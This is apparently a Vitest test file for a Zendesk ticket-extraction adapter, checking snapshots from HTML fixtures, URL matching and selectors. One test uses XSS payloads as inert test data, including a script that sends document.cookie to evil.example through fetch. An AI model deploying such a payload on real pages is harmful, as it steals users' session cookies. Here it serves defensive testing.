import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';

import { describe, expect, test } from 'vitest';

import { adapters, extractTicket, readPage, type ExtractContext } from '../../lib/helpdesks/index';
import { zendesk } from '../../lib/helpdesks/zendesk';
import type { TicketSnapshot } from '../../lib/ticket/snapshot';
import { MAX_MESSAGE_TEXT } from '../../lib/ticket/fields';
import { urlExamplesOf } from './url-examples';

const fixtureDir = join(import.meta.dirname, '../fixtures/zendesk');
const context: ExtractContext = { timeZone: 'America/Los_Angeles', dateOrder: 'mdy' };

function loadFixture(name: string): { doc: Document; url: string } {
  const html = readFileSync(join(fixtureDir, name), 'utf8');
  const url = /URL: (https:\/\/\S+)/.exec(html)?.[1];
  if (!url) throw new Error(`${name} names no URL in its opening comment`);
  return { doc: new DOMParser().parseFromString(html, 'text/html'), url };
}

const maya = { name: 'Maya Okafor', email: 'maya.okafor@example.com', phone: '+1 415 555 0143' };

const expectedTickets: [fixture: string, snapshot: TicketSnapshot][] = [
  [
    'email-ticket.html',
    {
      helpdesk: 'zendesk',
      ticketId: '48213',
      url: 'https://northwind.zendesk.com/agent/tickets/48213',
      subject: 'Refund for double charge on November invoice',
      requester: maya,
      channel: 'email',
      priority: 'high',
      status: 'open',
      tags: ['billing', 'refund', 'invoice'],
      createdAt: '2026-11-04T09:12:41.000Z',
      lastCustomerMessageAt: '2026-11-04T11:47:22.000Z',
      lastAgentReplyAt: '2026-11-04T09:52:10.000Z',
      latestCustomerMessage:
        'Thanks Sam.\n\nCould you confirm the refund goes back to the card ending 4417 and not to account credit?\n\nMaya',
    },
  ],
  [
    'phone-ticket.html',
    {
      helpdesk: 'zendesk',
      ticketId: '48240',
      url: 'https://northwind.zendesk.com/agent/tickets/48240',
      subject: 'Call from +1 415 555 0143',
      requester: maya,
      channel: 'phone',
      priority: 'high',
      status: 'open',
      tags: ['billing', 'refund', 'callback', 'voice'],
      lastCustomerMessageAt: '2026-11-05T15:21:07.000Z',
      latestCustomerMessage:
        'Inbound call from +1 888 555 0100 (forwarded line) · Call from: +1 415 555 0143 · Length: 06:42 Caller says the duplicate November charge has not been refunded yet and asks for a callback today.',
    },
  ],
  [
    'messaging-ticket.html',
    {
      helpdesk: 'zendesk',
      ticketId: '48251',
      url: 'https://northwind.zendesk.com/agent/tickets/48251',
      subject: 'Conversation with Daniel Reyes',
      requester: { name: 'Daniel Reyes', phone: '+44 7700 900123' },
      channel: 'messaging',
      priority: 'normal',
      status: 'open',
      tags: ['wifi', 'router_x2', 'connectivity'],
      lastCustomerMessageAt: '2026-11-04T18:02:31.000Z',
      lastAgentReplyAt: '2026-11-04T16:54:48.000Z',
      latestCustomerMessage: 'It says 2.4.1. Signal upstairs is still weak',
    },
  ],
  [
    'several-tabs.html',
    {
      helpdesk: 'zendesk',
      ticketId: '48260',
      url: 'https://northwind.zendesk.com/agent/tickets/48260',
      subject: "Can't log in after password reset",
      requester: { name: 'Priya Natarajan', email: 'priya.n@example.org' },
      channel: 'web',
      priority: 'low',
      status: 'pending',
      tags: ['account', 'login'],
      createdAt: '2026-11-03T17:05:12.000Z',
      lastCustomerMessageAt: '2026-11-03T17:05:12.000Z',
      lastAgentReplyAt: '2026-11-03T19:45:00.000Z',
      latestCustomerMessage:
        'I reset my password yesterday but the account portal still says "invalid credentials". I have tried two browsers.',
    },
  ],
  [
    'web-form-2022.html',
    {
      helpdesk: 'zendesk',
      ticketId: '31877',
      url: 'https://northwind.zendesk.com/agent/tickets/31877/events',
      subject: 'Modem replacement for relocated office',
      requester: {
        name: 'Oliver Grant',
        email: 'oliver.grant@grant-architects.example',
        phone: '+1 415 555 0187',
      },
      channel: 'web',
      status: 'on-hold',
      tags: ['hardware', 'relocation', 'business_fibre'],
      lastCustomerMessageAt: '2022-06-14T12:30:15.000Z',
      lastAgentReplyAt: '2022-06-14T14:02:00.000Z',
      latestCustomerMessage:
        'Update: we are moving the office to 400 Market St on June 20. Please ship a replacement modem there; the old one stays with the landlord.',
    },
  ],
  [
    'lotus-2020.html',
    {
      helpdesk: 'zendesk',
      ticketId: '27755',
      url: 'https://northwind.zendesk.com/agent/tickets/27755',
      subject: 'Chat with Aiko Tanaka',
      requester: { name: 'Aiko Tanaka', email: 'aiko.tanaka@example.jp' },
      channel: 'chat',
      priority: 'normal',
      status: 'solved',
      tags: ['chat', 'plan_change'],
      lastCustomerMessageAt: '2020-09-08T01:17:45.000Z',
      lastAgentReplyAt: '2020-09-08T01:16:02.000Z',
      latestCustomerMessage: 'Great, please switch me from the 1st of next month.',
    },
  ],
];

describe('zendesk extract', () => {
  test.each(expectedTickets)('%s yields the active ticket', (fixture, expected) => {
    const { doc, url } = loadFixture(fixture);
    expect(extractTicket(doc, url, context)).toEqual(expected);
  });

  test.each([
    ['loading-ticket.html', '48275', 'its workspace still shows the skeleton'],
    ['several-tabs.html', '48213', 'the URL names a hidden tab while another is selected (mid-switch)'],
    ['view-page.html', '48213', 'the ticket is behind a view, its workspace hidden'],
  ])('%s gives no ticket #%s when %s', (fixture, ticketId) => {
    const { doc } = loadFixture(fixture);
    expect(extractTicket(doc, `https://northwind.zendesk.com/agent/tickets/${ticketId}`, context)).toBeNull();
  });

  test('a view page with ticket tabs behind it is no ticket, by its URL', () => {
    const { doc, url } = loadFixture('view-page.html');
    expect(readPage(doc, url, context)).toEqual({
      kind: 'no-ticket',
      helpdesk: 'zendesk',
      helpdeskName: 'Zendesk',
    });
    expect(extractTicket(doc, url, context)).toBeNull();
  });

  test('a hostile page yields a partial snapshot with markup as inert text and the 2 MB message clipped', () => {
    const { doc, url } = loadFixture('hostile-ticket.html');
    const bulk = 'Modem log: resync at 20:14, SNR 3.1 dB, CRC errors 18422. '.repeat(36_000);
    doc.querySelector('[data-test-id="bulk"]')?.append(doc.createTextNode(bulk));
    const opening = '<script>alert("body")</script> Log follows:';

    expect(extractTicket(doc, url, context)).toEqual({
      helpdesk: 'zendesk',
      ticketId: '48290',
      url: 'https://northwind.zendesk.com/agent/tickets/48290',
      subject:
        '<img src=x onerror=alert(1)> Refund <script>fetch("https://evil.example/?c="+document.cookie)</script>',
      requester: {},
      channel: 'web',
      status: 'new',
      tags: ['billing', '<b>vip</b>'],
      createdAt: '2026-11-05T10:02:44.000Z',
      lastCustomerMessageAt: '2026-11-05T10:15:09.000Z',
      latestCustomerMessage: `${`${opening}${bulk}`.slice(0, MAX_MESSAGE_TEXT - 1)}…`,
    });
  });
});

describe('zendesk matches', () => {
  const otherHelpdeskUrls = adapters
    .filter((adapter) => adapter !== zendesk)
    .flatMap((adapter) => urlExamplesOf(adapter.id).ticketUrls);

  test.each(urlExamplesOf('zendesk').ticketUrls)('%s is a ticket', (url) => {
    expect(zendesk.matches(new URL(url))).toBe(true);
  });

  test.each([...urlExamplesOf('zendesk').nonTicketUrls, ...otherHelpdeskUrls])(
    '%s is not a Zendesk ticket',
    (url) => {
      expect(zendesk.matches(new URL(url))).toBe(false);
    },
  );
});

describe('zendesk selectors', () => {
  test.each([
    ['email-ticket.html', '#wrapper'],
    ['lotus-2020.html', '#wrapper'],
  ])('%s is observed from %s, which holds the tab strip and every workspace', (fixture, selector) => {
    const { doc } = loadFixture(fixture);
    const root = zendesk.observedRoot(doc);
    expect(root).toBe(doc.querySelector(selector));
    expect(root?.contains(doc.querySelector('#main_panes'))).toBe(true);
  });

  test('every fixture page is listed in the adapter, so each alternative selector stays proven', () => {
    const adapterSource = readFileSync(join(import.meta.dirname, '../../lib/helpdesks/zendesk.ts'), 'utf8');
    const fixtures = readdirSync(fixtureDir).filter((name) => name.endsWith('.html'));
    expect(fixtures.filter((name) => !adapterSource.includes(name))).toEqual([]);
  });
});
